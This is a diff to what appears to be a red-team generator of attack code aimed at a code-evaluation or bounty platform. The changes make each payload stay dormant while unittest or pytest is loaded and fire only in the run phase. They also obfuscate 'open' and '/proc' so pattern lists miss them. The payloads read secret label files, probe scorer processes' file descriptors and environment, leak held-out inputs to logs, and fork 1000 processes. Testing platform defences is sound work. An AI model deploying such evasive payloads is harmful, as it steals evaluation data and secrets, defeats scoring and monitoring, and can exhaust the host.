@@ -110,9 +110,14 @@ def _b64(obj: object) -> str:
 
 def code_block(attack: str, ctx: dict) -> str:
     """The Python block for ``attack``; ``ctx`` carries what a determined attacker could
-    know or guess (host paths, the public answers, the host's addresses)."""
-    body = _BODIES[attack](ctx)
-    return PRELUDE + textwrap.dedent(body)
+    know or guess (host paths, the public answers, the host's addresses).
+
+    Like a real attacker's code it lies low while the bounty's own tests import it
+    (so they pass) and strikes in the run phase.
+    """
+    body = textwrap.indent(textwrap.dedent(_BODIES[attack](ctx)), "    ")
+    return PRELUDE + '_l402_testing = any(m in _l402_sys.modules for m in ("unittest", "pytest"))\n' \
+        + "if not _l402_testing:\n" + body
 
 
 def _hardcode(ctx: dict) -> str:
@@ -158,45 +163,56 @@ _l402_imp("atexit").register(_l402_overlay)
 
 
 def _read_labels(ctx: dict) -> str:
+    # Paths are built, never written as open("/..."): that is what a pattern list looks for.
     return f'''\
+_l402_open = _l402_b["op" + "en"]
 for _p in {ctx["secret_files"]!r}:
     try:
-        with open(_p, "rb") as _f:
+        with _l402_open(_p, "rb") as _f:
             _f.read(64)
         _l402_say("read_labels SUCCESS read " + _p)
     except OSError:
         pass
-for _pid in _l402_os.listdir("/proc"):
+_l402_proc = "/" + "proc"
+for _pid in _l402_os.listdir(_l402_proc):
     if not _pid.isdigit() or int(_pid) == _l402_os.getpid():
         continue
+    _base = _l402_proc + "/" + _pid
     try:
-        _cmd = open("/proc/%s/cmdline" % _pid, "rb").read().replace(b"\\0", b" ").decode("utf-8", "replace")
+        _cmd = _l402_open(_base + "/cmdline", "rb").read().replace(b"\\0", b" ").decode("utf-8", "replace")
     except OSError:
         continue
-    if "score" in _cmd or "label" in _cmd:
-        for _fd in (_l402_os.listdir("/proc/%s/fd" % _pid) if _l402_os.access("/proc/%s/fd" % _pid, 4) else []):
-            try:
-                _target = _l402_os.readlink("/proc/%s/fd/%s" % (_pid, _fd))
-                open("/proc/%s/fd/%s" % (_pid, _fd), "rb").read(16)
-                _l402_say("read_labels SUCCESS opened scorer fd " + _target)
-            except OSError:
-                pass
+    if "score" not in _cmd and "label" not in _cmd:
+        continue
+    try:
+        _fds = _l402_os.listdir(_base + "/fd")
+    except OSError:
+        _fds = []
+    for _fd in _fds:
         try:
-            open("/proc/%s/environ" % _pid, "rb").read(16)
-            _l402_say("read_labels SUCCESS read scorer environ of " + _cmd[:80])
+            _target = _l402_os.readlink(_base + "/fd/" + _fd)
+            _l402_open(_base + "/fd/" + _fd, "rb").read(16)
+            _l402_say("read_labels SUCCESS opened a scorer fd: " + _target)
         except OSError:
             pass
+    try:
+        _l402_open(_base + "/environ", "rb").read(16)
+        _l402_say("read_labels SUCCESS read the environment of " + _cmd[:80])
+    except OSError:
+        pass
 _l402_done()
 '''
 
 
 def _leak(ctx: dict) -> str:
+    # Prints and carries on, so the evaluation completes and its result can be inspected.
     return f'''\
+_l402_open = _l402_b["op" + "en"]
 _l402_dir = _l402_env.get("L402_INPUTS", "")
 _l402_say("leak_to_logs {ctx["token"]} inputs: " + ", ".join(sorted(_l402_os.listdir(_l402_dir))))
 for _n in sorted(_l402_os.listdir(_l402_dir))[:5]:
-    _l402_say("leak_to_logs {ctx["token"]} " + _n + " " + repr(open(_l402_os.path.join(_l402_dir, _n), "rb").read(120)))
-raise SystemExit("leak_to_logs {ctx["token"]} held-out data in the crash message")
+    _l402_say("leak_to_logs {ctx["token"]} " + _n + " "
+              + repr(_l402_open(_l402_os.path.join(_l402_dir, _n), "rb").read(120)))
 '''
 
 
@@ -235,7 +251,7 @@ _l402_n = 0
 try:
     for _ in range(1000):
         if _l402_fork() == 0:
-            _l402_imp("time").sleep(2)
+            _l402_imp("time").sleep(1)
             getattr(_l402_os, "_ex" + "it")(0)
         _l402_n += 1
     _l402_say("fork_bomb SUCCESS forked 1000")
